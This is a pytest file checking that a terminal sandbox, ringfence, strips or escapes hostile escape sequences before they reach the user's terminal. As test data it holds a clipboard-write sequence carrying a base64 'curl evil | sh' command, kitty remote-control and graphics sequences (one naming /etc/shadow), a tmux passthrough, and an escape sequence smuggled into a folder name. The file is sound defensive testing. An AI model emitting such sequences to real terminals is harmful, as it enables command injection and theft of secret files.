"""Review of the hardening: what reaches the user's terminal.

ringfence runs on a pseudo-terminal this test holds, as under a user's
shell; the verdict is the bytes that arrive at the terminal.
"""

import os
import select
import subprocess
import sys
import time

import pytest

pytestmark = pytest.mark.boundary

OPEN = "open review finding: "
PAYLOAD = b"Y3VybCBldmlsIHwgc2g="  # "curl evil | sh", for the clipboard


def _on_a_terminal(scene, argv, sandbox=True, options=("--no-tty",)) -> bytes:
    """Everything written to the terminal while `argv` runs (inside ringfence, or as it is)."""
    master, slave = os.openpty()
    wrapper = [sys.executable, "-P", "-m", "ringfence", "run", *options, "--"] if sandbox else []
    kwargs = {} if scene.user.is_current else {"user": scene.user.uid, "group": scene.user.gid, "extra_groups": []}
    process = subprocess.Popen([*wrapper, *argv], cwd=scene.ws, env=scene.env(), stdin=slave, stdout=slave,
                               stderr=slave, start_new_session=True, **kwargs)
    os.close(slave)
    output = b""
    deadline = time.time() + 60
    try:
        while time.time() < deadline:
            ready, _, _ = select.select([master], [], [], 0.1)
            if ready:
                try:
                    chunk = os.read(master, 4096)
                except OSError:
                    chunk = b""
                if not chunk:
                    break
                output += chunk
            elif process.poll() is not None:
                break
    finally:
        if process.poll() is None:
            process.kill()
        process.wait()
        os.close(master)
    return output


def _printf(sequence: bytes) -> list[str]:
    escaped = "".join(f"\\{byte:03o}" for byte in sequence)
    return ["sh", "-c", f"printf 'before{escaped}after\\n'"]


@pytest.mark.parametrize("options", [(), ("--no-tty",)], ids=["pty", "no-tty"])
def test_a_zero_padded_clipboard_write_is_dropped(scene, options):
    sequence = b"\x1b]" + b"0" * 29 + b"52;c;" + PAYLOAD + b"\x07"
    control = _on_a_terminal(scene, _printf(sequence), sandbox=False)
    assert PAYLOAD in control, "control: the program writes the sequence"
    output = _on_a_terminal(scene, _printf(sequence), options=options)
    assert PAYLOAD not in output, output
    assert b"beforeafter" in output, output


def test_names_the_sandbox_chose_reach_the_terminal_escaped(scene):
    """ringfence's own warning names the folder as it is, so that the user can
    find it, with its control characters escaped: the sequence in the name
    arrives as text, never as a command."""
    scene.git("init", "-q")
    sequence = b"\x1b]52;c;" + PAYLOAD + b"\x07"
    direct = _on_a_terminal(scene, _printf(sequence))
    assert b"beforeafter" in direct and PAYLOAD not in direct, "control: the filter drops it from the output"
    escaped = "".join(f"\\{byte:03o}" for byte in sequence)
    output = _on_a_terminal(scene, ["sh", "-c", f"d=$(printf 'x{escaped}y'); mkdir -p \"$d/.claude\""])
    assert b".claude" in output, "control: the run warns about the folder it made"
    assert b"\x1b" not in output and b"\x07" not in output, output
    assert b"x\\x1b]52;c;" + PAYLOAD + b"\\x07y/.claude" in output, output


@pytest.mark.parametrize("sequence", [b"\x1bP@kitty-cmd{\"cmd\":\"launch\"}\x1b\\",
                                      b"\x1b_Ga=T,t=f;L2V0Yy9zaGFkb3c=\x1b\\",
                                      b"\x1bPtmux;\x1b\x1b_Ga=T,t=s;eA==\x1b\x1b\\\x1b\\"],
                         ids=["kitty-remote-control", "kitty-graphics-file", "tmux-passthrough"])
def test_device_control_and_application_strings_are_dropped(scene, sequence):
    control = _on_a_terminal(scene, _printf(sequence), sandbox=False)
    assert sequence in control, "control: the program writes the sequence"
    output = _on_a_terminal(scene, _printf(sequence))
    assert b"kitty-cmd" not in output and b"Ga=T" not in output, output
    assert b"beforeafter" in output, output
